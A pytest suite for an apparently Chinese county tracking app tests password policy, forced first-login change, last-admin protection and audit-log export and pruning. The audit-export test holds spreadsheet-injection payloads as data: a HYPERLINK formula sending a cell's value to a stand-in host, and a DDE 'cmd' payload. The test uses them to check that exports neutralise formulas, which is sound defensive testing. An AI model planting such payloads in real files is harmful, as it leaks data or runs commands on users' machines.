"""等保2.0 items: the password policy, the forced change at first login, the last county admin, the audit journal.

The data layer runs on SQLite and PostgreSQL (the `engine` fixture); pages and the API through TestClient,
the `rectify users` commands through CliRunner.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import select
from typer.testing import CliRunner

from tests.test_lifecycle import add_tasks
from tests.web_helpers import ADMIN, OWN, PASSWORD, STAFF, csrf_from, login, seed, web_env
from tracker import audit, config, passwords, users
from tracker.cli import app as cli_app
from tracker.db import session_scope, utcnow
from tracker.errors import NotFound, ValidationFailed
from tracker.models import AuditEvent, PasswordHistory, User

GOOD = "Good-pass-123"
INJECTION = '=HYPERLINK("http://evil.example/"&A1,"详情")'


@pytest.fixture
def policy(monkeypatch):
    """Change the policy's settings for one test: policy(RECTIFY_PASSWORD_MAX_AGE_DAYS="90")."""

    def change(**env: str) -> None:
        for k, v in env.items():
            monkeypatch.setenv(k, v)
        config.get_settings.cache_clear()

    yield change
    config.get_settings.cache_clear()


# ---------------------------------------------------------------------------------------------------
# The policy itself
# ---------------------------------------------------------------------------------------------------


def test_policy_says_what_is_missing():
    assert passwords.problems(GOOD) == []
    assert passwords.problems("abc") == [
        "长度至少 10 位（现为 3 位）",
        "须包含大写字母、小写字母、数字、符号中的至少 3 类（现有 1 类，还可加入：大写字母、数字、符号）",
    ]
    assert passwords.problems("abcdefghij1") == [
        "须包含大写字母、小写字母、数字、符号中的至少 3 类（现有 2 类，还可加入：大写字母、符号）"
    ]
    assert passwords.problems("abcdefghij-1") == []  # lower, digit, symbol
    assert passwords.problems("ABCDEFGHIJ中1") == []  # a Chinese character counts as a symbol
    assert "控制字符" in passwords.problems("Abcdefgh-1\n")[0]


def test_policy_follows_the_settings(policy):
    policy(RECTIFY_PASSWORD_MIN_LENGTH="14", RECTIFY_PASSWORD_CLASSES="4")
    assert passwords.problems(GOOD) == ["长度至少 14 位（现为 13 位）"]
    assert passwords.problems("Good-pass-1234") == []
    assert passwords.problems("good-pass-1234") == [
        "须包含大写字母、小写字母、数字、符号中的至少 4 类（现有 3 类，还可加入：大写字母）"
    ]
    assert "至少 14 位" in passwords.describe() and "至少 4 类" in passwords.describe()


def test_generated_passwords_satisfy_the_policy(policy):
    assert all(passwords.problems(users.generate_password()) == [] for _ in range(200))
    policy(RECTIFY_PASSWORD_MIN_LENGTH="20", RECTIFY_PASSWORD_CLASSES="4")
    assert all(passwords.problems(users.generate_password()) == [] for _ in range(50))


def test_a_bad_policy_setting_is_named(policy):
    policy(RECTIFY_PASSWORD_CLASSES="5")
    with pytest.raises(config.ConfigError, match="RECTIFY_PASSWORD_CLASSES=5 无效，应为 1 到 4 之间的整数"):
        config.load_settings()


# ---------------------------------------------------------------------------------------------------
# Data layer (SQLite and PostgreSQL)
# ---------------------------------------------------------------------------------------------------


@pytest.fixture
def people(engine):
    with session_scope(engine) as s:
        add_tasks(s, township="西里镇", n=1)
        users.create_user(s, name="admin", role="county_admin", password=GOOD)
        users.create_user(s, name="xili", role="township", password=GOOD, township="西里镇")
    return engine


def _events(engine, **where) -> list[AuditEvent]:
    with session_scope(engine) as s:
        q = select(AuditEvent).order_by(AuditEvent.id)
        for k, v in where.items():
            q = q.where(getattr(AuditEvent, k) == v)
        return list(s.execute(q).scalars())


def test_weak_passwords_are_refused_everywhere_they_are_set(people):
    with session_scope(people) as s:
        admin = users.get_user(s, name="admin")
        with pytest.raises(ValidationFailed, match="^密码不符合要求：长度至少 10 位（现为 5 位）；须包含"):
            users.create_user(s, name="新人", role="county_staff", password="short", actor=admin)
        with pytest.raises(ValidationFailed, match="还可加入：大写字母、符号"):
            users.set_password(s, name="xili", password="abcdefgh12", actor=admin)
        with pytest.raises(ValidationFailed, match="密码不符合要求"):
            users.change_password(
                s, user=users.get_user(s, name="xili"), current_password=GOOD, new_password="abcdefghijk"
            )


def test_the_last_five_passwords_are_not_reused(people):
    chain = [f"Pass-word-{n:02d}" for n in range(1, 8)]
    with session_scope(people) as s:
        xili = users.get_user(s, name="xili")
        users.change_password(s, user=xili, current_password=GOOD, new_password=chain[0])
        for old, new in zip(chain, chain[1:5]):
            users.change_password(s, user=xili, current_password=old, new_password=new)
        # current: chain[4]; remembered: chain[4], [3], [2], [1], [0]; GOOD is the sixth back
        for reused in chain[:5]:
            with pytest.raises(ValidationFailed, match="不能与最近 5 次使用过的密码相同|不能与当前密码相同"):
                users.change_password(s, user=xili, current_password=chain[4], new_password=reused)
        with pytest.raises(ValidationFailed, match="不能与最近 5 次使用过的密码相同"):
            users.set_password(s, name="xili", password=chain[1])  # an admin reset is checked too
        users.change_password(s, user=xili, current_password=chain[4], new_password=GOOD)
        kept = s.execute(select(PasswordHistory.password_hash).where(PasswordHistory.user_id == xili.id)).all()
        assert len(kept) == 4 and all(h.startswith("$argon2") for (h,) in kept)  # + the current one = 5


def test_admin_created_or_reset_accounts_must_change_at_first_login(people):
    with session_scope(people) as s:
        admin = users.get_user(s, name="admin")
        assert users.password_change_due(admin) is None  # created by the local operator
        new = users.create_user(s, name="新人", role="county_staff", password=GOOD, actor=admin)
        assert new.must_change_password and "请先修改密码" in users.password_change_due(new)
        with pytest.raises(ValidationFailed, match="当前密码不正确"):
            users.change_password(s, user=new, current_password="Wrong-pass-1", new_password="Other-pass-1")
        with pytest.raises(ValidationFailed, match="新密码不能与当前密码相同"):
            users.change_password(s, user=new, current_password=GOOD, new_password=GOOD)
        users.change_password(s, user=new, current_password=GOOD, new_password="Other-pass-1")
        assert users.password_change_due(new) is None
        users.set_password(s, name="新人", password="Third-pass-1", actor=admin)
        assert new.must_change_password
        users.set_password(s, name="admin", password="Admins-own-1", actor=admin)  # one's own: no
        assert not admin.must_change_password
        users.set_password(s, name="xili", password="Reset-pass-1")  # the local operator: only if asked
        assert not users.get_user(s, name="xili").must_change_password
        users.set_password(s, name="xili", password="Reset-pass-2", must_change=True)
        assert users.get_user(s, name="xili").must_change_password


def test_expired_passwords_must_be_changed(people, policy):
    with session_scope(people) as s:
        xili = users.get_user(s, name="xili")
        xili.password_changed_at = utcnow() - timedelta(days=100)
        assert users.password_change_due(xili) is None  # expiry is off by default
        policy(RECTIFY_PASSWORD_MAX_AGE_DAYS="90")
        assert users.password_change_due(xili) == "密码已使用超过 90 天，请先修改密码后再继续使用"
        users.change_password(s, user=xili, current_password=GOOD, new_password="Fresh-pass-1")
        assert users.password_change_due(xili) is None


def test_the_last_active_county_admin_cannot_be_disabled_or_demoted(people):
    last = "admin 是最后一名启用中的县级管理员，不能停用或改为其他角色"
    with session_scope(people) as s:
        admin = users.get_user(s, name="admin")
        with pytest.raises(ValidationFailed, match=last):
            users.set_active(s, name="admin", active=False, actor=admin)
        with pytest.raises(ValidationFailed, match=last):
            users.set_role(s, name="admin", role="county_staff")
        with pytest.raises(ValidationFailed, match=last):
            users.update_user(s, actor=admin, user_id=admin.id, role="township", township="西里镇")
        second = users.create_user(s, name="admin2", role="county_admin", password=GOOD)
        users.set_active(s, name="admin2", active=False)
        with pytest.raises(ValidationFailed, match=last):  # a disabled admin does not count
            users.set_active(s, name="admin", active=False)
        users.set_active(s, name="admin2", active=True)
        users.set_role(s, name="admin", role="county_staff", actor=admin)
        assert admin.role == "county_staff" and second.role == "county_admin"
        with pytest.raises(ValidationFailed, match="admin2 是最后一名"):
            users.set_active(s, name="admin2", active=False)
        users.set_role(s, name="xili", role="county_staff")  # others change freely


def test_user_changes_are_audited(people):
    with session_scope(people) as s:
        admin = users.get_user(s, name="admin")
        users.create_user(s, name="新人", role="county_staff", password=GOOD, actor=admin)
        users.set_password(s, name="新人", password="Reset-pass-1", actor=admin)
        users.set_active(s, name="新人", active=False, actor=admin)
        users.set_role(s, name="新人", role="township", township="西里镇", actor=admin)
        users.issue_token(s, name="xili", actor=admin)
    got = [(e.actor, e.action, e.entity) for e in _events(people, entity="user")]
    assert got == [
        ("本机操作员", "create", "user"),
        ("本机操作员", "create", "user"),
        ("admin", "create", "user"),
        ("admin", "password_reset", "user"),
        ("admin", "disable", "user"),
        ("admin", "role", "user"),
        ("admin", "token", "user"),
    ]
    role = _events(people, action="role")[0]
    assert role.before["role"] == "county_staff" and role.after["role"] == "township"
    assert all(e.address is None for e in _events(people))  # no request: no client address


def test_audit_search_filters_and_pages(people):
    with session_scope(people) as s:
        for n in range(60):
            audit.record(s, actor=f"用户{n % 3}", action="export", entity="ledger", entity_id=0, address="10.0.0.1")
        admin = users.get_user(s, name="admin")
        page = audit.search(s, actor=admin)
        assert (page.total, len(page.items), page.pages) == (62, 50, 2)
        assert page.items[0].id > page.items[-1].id  # newest first
        assert len(audit.search(s, actor=admin, page=2).items) == 12
        f = audit.parse_filters(actor="用户1", action="export", entity="ledger")
        assert audit.search(s, actor=admin, filters=f).total == 20
        today = utcnow().date()
        f = audit.parse_filters(
            since=(today - timedelta(days=1)).isoformat(), until=(today + timedelta(days=1)).isoformat()
        )
        assert audit.search(s, actor=admin, filters=f).total == 62
        f = audit.parse_filters(until=(today - timedelta(days=2)).isoformat())
        assert audit.search(s, actor=admin, filters=f).total == 0
        assert audit.search(s, actor=admin, filters=audit.parse_filters(actor="%")).total == 0  # no wildcard
        for bad, message in (
            (dict(since="2024-13-01"), "开始日期应为日期"),
            (dict(action="drop"), "操作类型“drop”无效"),
            (dict(since="2024-03-02", until="2024-03-01"), "开始日期不能晚于结束日期"),
        ):
            with pytest.raises(ValidationFailed, match=message):
                audit.parse_filters(**bad)
        staff = users.create_user(s, name="staff", role="county_staff", password=GOOD)
        for reader in (staff, users.get_user(s, name="xili")):
            with pytest.raises(NotFound):
                audit.search(s, actor=reader)
            with pytest.raises(NotFound):
                audit.export_csv(s, actor=reader)


def test_audit_exports_keep_formulas_as_text(people):
    with session_scope(people) as s:
        audit.record(
            s,
            actor=audit.clean_name(INJECTION),
            action="login_failed",
            entity="user",
            entity_id=0,
            reason="+cmd|' /C calc'!A0",
            address="10.0.0.2",
        )
        admin = users.get_user(s, name="admin")
        data = audit.export_csv(s, actor=admin, filters=audit.parse_filters(action="login_failed"))
        book = audit.export_xlsx(s, actor=admin, filters=audit.parse_filters(action="login_failed"))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][:4] == ["编号", "时间", "操作人", "操作"]
    assert rows[1][2] == "'" + INJECTION[:64] and rows[1][3] == "登录失败" and rows[1][7].startswith("'+cmd")
    ws = load_workbook(io.BytesIO(book)).active
    cells = list(ws.iter_rows(min_row=2, max_row=2))[0]
    assert cells[2].value == INJECTION[:64] and cells[2].data_type == "s" and cells[2].quotePrefix
    assert cells[7].data_type == "s" and cells[7].quotePrefix
    exports = _events(people, action="export", entity="audit")
    assert [e.after["file"] for e in exports] == ["审计记录.csv", "审计记录.xlsx"]
    assert exports[0].after["rows"] == 1 and exports[0].after["filters"] == {"action": "login_failed"}


def test_nothing_in_the_app_changes_or_deletes_audit_records():
    import inspect
    import re

    from tracker.web.app import create_app  # noqa: F401

    source = inspect.getsource(audit)
    assert not re.search(r"\b(update|delete)\(", source)
    # the operator's pruning is imported by its CLI command only
    root = Path(audit.__file__).parents[1]
    importers = {
        str(p.relative_to(root))
        for folder in ("tracker", "notifications", "workflows")
        for p in (root / folder).rglob("*.py")
        if re.search(
            r"^\s*(from tracker import .*\baudit_retention\b|(from|import) tracker\.audit_retention\b)",
            p.read_text(encoding="utf-8"),
            re.M,
        )
    }
    assert importers == {"tracker/cli/audit.py"}
    from fastapi import FastAPI

    from tests.test_permissions import route_keys
    from tracker.web import pages

    probe = FastAPI()
    for router in pages.routers:
        probe.include_router(router)
    assert {k for k in route_keys(probe) if k[1].startswith("/audit")} == {
        ("GET", "/audit"),
        ("GET", "/audit/export.{fmt}"),
    }


def test_the_operator_prunes_records_past_their_retention_and_that_is_recorded(people, cli_env):
    now = utcnow()
    with session_scope(people) as s:
        for age in (400, 366, 200):
            audit.record(s, actor="旧", action="update", entity="task", entity_id=age)
        s.flush()
        for e in s.execute(select(AuditEvent).where(AuditEvent.actor == "旧")).scalars():
            e.at = now - timedelta(days=e.entity_id)
    before = len(_events(people))
    short = CliRunner().invoke(cli_app, ["audit", "prune", "--keep-days", "90"])
    assert short.exit_code == 1 and "审计记录至少保留 180 天（六个月）" in short.output
    dry = CliRunner().invoke(cli_app, ["audit", "prune", "--keep-days", "365", "--dry-run"])
    assert dry.exit_code == 0 and "将清理" in dry.output and "审计记录 2 条" in dry.output
    assert len(_events(people)) == before
    r = CliRunner().invoke(cli_app, ["audit", "prune", "--keep-days", "365"])
    assert r.exit_code == 0 and "已清理" in r.output and "审计记录 2 条" in r.output, r.output
    assert [e.entity_id for e in _events(people, actor="旧")] == [200]
    [pruned] = _events(people, action="prune")
    assert pruned.actor.startswith("命令行") and pruned.after["rows"] == 2 and pruned.after["keep_days"] == 365
    assert len(_events(people)) == before - 2 + 1


# ---------------------------------------------------------------------------------------------------
# The web and the API
# ---------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    from tracker.web.app import create_app

    with web_env(tmp_path_factory.mktemp("sec")) as engine:
        seed(engine)
        yield create_app(engine=engine), engine


def _client(site, name: str | None = None, password: str = PASSWORD) -> TestClient:
    client = TestClient(site[0])
    if name:
        r = login(client, name, password)
        assert r.status_code == 200, r.text[:300]
    return client


def _csrf(client) -> str:
    return csrf_from(client.get("/account/password").text)


def test_logins_and_logouts_are_audited_with_the_client_address(site):
    engine = site[1]
    client = TestClient(site[0])
    r = login(client, OWN, "Wrong-pass-1")
    assert r.status_code == 403
    login(client, "不存在的人", "Wrong-pass-1")
    login(client, OWN)
    client.post("/logout", headers={"X-CSRF-Token": _csrf(client)})
    with session_scope(engine) as s:
        rows = s.execute(
            select(AuditEvent.actor, AuditEvent.action, AuditEvent.address, AuditEvent.reason)
            .where(AuditEvent.entity == "user", AuditEvent.action.in_(("login", "login_failed", "logout")))
            .order_by(AuditEvent.id)
        ).all()
    assert [(a, b, c) for a, b, c, _ in rows[-4:]] == [
        (OWN, "login_failed", "testclient"),
        ("不存在的人", "login_failed", "testclient"),
        (OWN, "login", "testclient"),
        (OWN, "logout", "testclient"),
    ]
    assert rows[-4][3] and "密码" in rows[-4][3]


def test_forced_change_after_an_admin_creates_the_account(site):
    admin = _client(site, ADMIN)
    page = admin.get("/users")
    assert '<option value="township" selected>' in page.text  # the least powerful role first
    r = admin.post(
        "/users",
        data={"name": "新科员", "role": "county_staff", "password": "short", "csrf_token": csrf_from(page.text)},
    )
    assert r.status_code == 422 and "密码不符合要求：长度至少 10 位（现为 5 位）" in r.text
    r = admin.post(
        "/users", data={"name": "新科员", "role": "county_staff", "password": GOOD, "csrf_token": csrf_from(page.text)}
    )
    assert r.status_code == 200 and "首次登录须先修改密码" in r.text

    new = _client(site, "新科员", GOOD)  # logs in, lands on the change form
    assert new.get("/tasks", follow_redirects=False).headers["location"] == "/account/password"
    assert "请先修改密码" in new.get("/tasks").text
    api = new.get("/api/v1/tasks")
    assert api.status_code == 403 and "请先修改密码" in api.json()["detail"]
    csrf = _csrf(new)
    r = new.post(
        "/account/password",
        data={
            "current_password": GOOD,
            "new_password": "Mine-pass-1",
            "confirm_password": "Mine-pass-2",
            "csrf_token": csrf,
        },
    )
    assert r.status_code == 422 and "两次输入的新密码不一致" in r.text
    r = new.post(
        "/account/password",
        data={"current_password": GOOD, "new_password": "minepass", "confirm_password": "minepass", "csrf_token": csrf},
    )
    assert r.status_code == 422 and "长度至少 10 位（现为 8 位）" in r.text
    r = new.post(
        "/account/password",
        data={
            "current_password": GOOD,
            "new_password": "Mine-pass-1",
            "confirm_password": "Mine-pass-1",
            "csrf_token": csrf,
        },
    )
    assert r.status_code == 200 and "密码已修改" in r.text
    assert new.get("/api/v1/tasks").status_code == 200


def test_forced_change_through_the_api_with_a_token(site):
    admin = _client(site, ADMIN)
    csrf = _csrf(admin)
    r = admin.post(
        "/api/v1/users",
        json={"name": "接口用户", "role": "county_staff", "password": "weakweak"},
        headers={"X-CSRF-Token": csrf},
    )
    assert r.status_code == 422 and "密码不符合要求" in r.json()["detail"]
    r = admin.post(
        "/api/v1/users",
        json={"name": "接口用户", "role": "county_staff", "password": GOOD},
        headers={"X-CSRF-Token": csrf},
    )
    assert r.status_code == 201 and r.json()["must_change_password"] is True
    with session_scope(site[1]) as s:
        token = users.issue_token(s, name="接口用户")
    bearer = {"Authorization": f"Bearer {token}"}
    client = TestClient(site[0])
    r = client.get("/api/v1/tasks", headers=bearer)
    assert (
        r.status_code == 403 and r.json()["detail"] == "账号由管理员创建或密码已被管理员重置，请先修改密码后再继续使用"
    )
    r = client.post("/api/v1/account/password", json={"current_password": GOOD, "new_password": "abc"}, headers=bearer)
    assert r.status_code == 422 and "长度至少 10 位" in r.json()["detail"]
    r = client.post(
        "/api/v1/account/password", json={"current_password": GOOD, "new_password": "Api-pass-123"}, headers=bearer
    )
    assert r.status_code == 200 and r.json() == {"detail": "密码已修改"}
    # a password change ends the user's sessions and API tokens (tracker/sessions.py): a new token works
    assert client.get("/api/v1/tasks", headers=bearer).status_code == 401
    with session_scope(site[1]) as s:
        token = users.issue_token(s, name="接口用户")
    assert client.get("/api/v1/tasks", headers={"Authorization": f"Bearer {token}"}).status_code == 200


def test_last_admin_on_the_page_and_the_api(site):
    admin = _client(site, ADMIN)
    csrf = _csrf(admin)
    with session_scope(site[1]) as s:
        me = users.get_user(s, name=ADMIN).id
    r = admin.post(f"/users/{me}/active", data={"active": "false", "csrf_token": csrf})
    assert r.status_code == 422 and "是最后一名启用中的县级管理员" in r.text and "用户管理" in r.text
    r = admin.post(f"/users/{me}/role", data={"role": "county_staff", "csrf_token": csrf})
    assert r.status_code == 422 and "是最后一名启用中的县级管理员" in r.text
    r = admin.patch(f"/api/v1/users/{me}", json={"role": "county_staff"}, headers={"X-CSRF-Token": csrf})
    assert r.status_code == 422 and "是最后一名启用中的县级管理员" in r.json()["detail"]
    r = admin.patch(f"/api/v1/users/{me}", json={"active": False}, headers={"X-CSRF-Token": csrf})
    assert r.status_code == 422
    with session_scope(site[1]) as s:
        assert users.get_user(s, name=ADMIN).role == "county_admin"


def test_audit_page_for_county_admins_only_and_exports_are_recorded(site):
    admin = _client(site, ADMIN)
    assert admin.get("/tasks/export.xlsx").status_code == 200
    assert admin.get("/yearend/all.zip", params={"year": 2023}).status_code == 200
    r = admin.get("/audit", params={"action": "export"})
    assert r.status_code == 200 and "审计日志" in r.text and "整改台账" in r.text and "年终材料" in r.text
    assert "testclient" in r.text
    r = admin.get("/audit", params={"since": "2024-13-01"})
    assert r.status_code == 422 and "开始日期应为日期" in r.text
    r = admin.get("/audit/export.csv", params={"action": "login"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert "登录" in r.content.decode("utf-8-sig")
    r = admin.get("/audit/export.xlsx")
    assert r.status_code == 200 and load_workbook(io.BytesIO(r.content)).active["A1"].value == "编号"
    assert admin.get("/audit/export.pdf").status_code == 404
    for name in (STAFF, OWN):
        other = _client(site, name)
        assert other.get("/audit").status_code == 404
        assert other.get("/audit/export.csv").status_code == 404
        assert "/audit" not in other.get("/tasks").text


# ---------------------------------------------------------------------------------------------------
# The CLI
# ---------------------------------------------------------------------------------------------------

runner = CliRunner()


def rectify(*args: str, input: str | None = None, code: int = 0):
    result = runner.invoke(cli_app, list(args), input=input)
    assert result.exit_code == code, (result.stdout, result.stderr)
    return result


def test_cli_policy_forced_change_and_last_admin(engine, cli_env, monkeypatch):
    monkeypatch.setenv("COLUMNS", "250")
    r = rectify("users", "add", "甲", "--role", "county_admin", "--password-stdin", input="abcdefghij\n", code=1)
    assert "密码不符合要求：须包含大写字母、小写字母、数字、符号中的至少 3 类（现有 1 类" in r.stderr
    rectify("users", "add", "甲", "--role", "county_admin", "--password-stdin", input=f"{GOOD}\n")
    r = rectify("users", "add", "乙", "--role", "county_staff", "--password-stdin", "--must-change", input=f"{GOOD}\n")
    assert "首次登录须先修改密码" in r.stdout
    with session_scope(engine) as s:
        assert not users.get_user(s, name="甲").must_change_password
        assert users.get_user(s, name="乙").must_change_password
    r = rectify("users", "passwd", "甲", "--password-stdin", input=f"{GOOD}\n", code=1)
    assert "不能与最近 5 次使用过的密码相同" in r.stderr
    rectify("users", "passwd", "甲", "--password-stdin", input="New-admin-pass-1\n")
    r = rectify("users", "disable", "甲", code=1)
    assert "甲 是最后一名启用中的县级管理员" in r.stderr
    r = rectify("users", "role", "甲", "--role", "county_staff", code=1)
    assert "甲 是最后一名启用中的县级管理员" in r.stderr
    rectify("users", "role", "乙", "--role", "county_admin")
    rectify("users", "role", "甲", "--role", "county_staff")
    with session_scope(engine) as s:
        assert [u.role for u in s.execute(select(User).order_by(User.id)).scalars()] == ["county_staff", "county_admin"]
        assert [e.action for e in s.execute(select(AuditEvent).order_by(AuditEvent.id)).scalars()] == [
            "create",
            "create",
            "password_reset",
            "role",
            "role",
        ]


def test_county_admins_read_their_own_countys_journal(people):
    from tracker import counties

    with session_scope(people) as s:
        counties.add_county(s, name="乙县")
        add_tasks(s, township="乙镇", n=1)
        from tracker.models import Task, Township

        yi = s.execute(select(Township).where(Township.name == "乙镇")).scalar_one()
        yi.county_id = counties.county_named(s, "乙县").id
        yi_task = s.execute(select(Task.id).where(Task.township_id == yi.id)).scalar_one()
        xi_task = s.execute(select(Task.id).where(Task.township_id != yi.id)).scalars().first()
        b_admin = users.create_user(s, name="乙县管理员", role="county_admin", password=GOOD, county="乙县")
        city = users.create_user(s, name="市里", role="city", password=GOOD)
        audit.record(s, actor="乙县管理员", action="export", entity="ledger", entity_id=0)
        audit.record(s, actor="admin", action="export", entity="ledger", entity_id=0)
        audit.record(s, actor="导入", action="update", entity="task", entity_id=yi_task, after={"title": "乙镇的问题"})
        audit.record(s, actor="导入", action="update", entity="task", entity_id=xi_task, after={"title": "西里的问题"})
        admin = users.get_user(s, name="admin")
        mine = {(e.actor, e.entity, e.entity_id) for e in audit.search(s, actor=admin).items}
        theirs = {(e.actor, e.entity, e.entity_id) for e in audit.search(s, actor=b_admin).items}
        everything = audit.search(s, actor=city).total
    assert ("admin", "ledger", 0) in mine and ("导入", "task", xi_task) in mine
    assert ("乙县管理员", "ledger", 0) not in mine and ("导入", "task", yi_task) not in mine
    assert ("本机操作员", "user", b_admin.id) not in mine  # the other county's user was created
    assert theirs == {("乙县管理员", "ledger", 0), ("导入", "task", yi_task), ("本机操作员", "user", b_admin.id)}
    assert everything == len(_events(people))
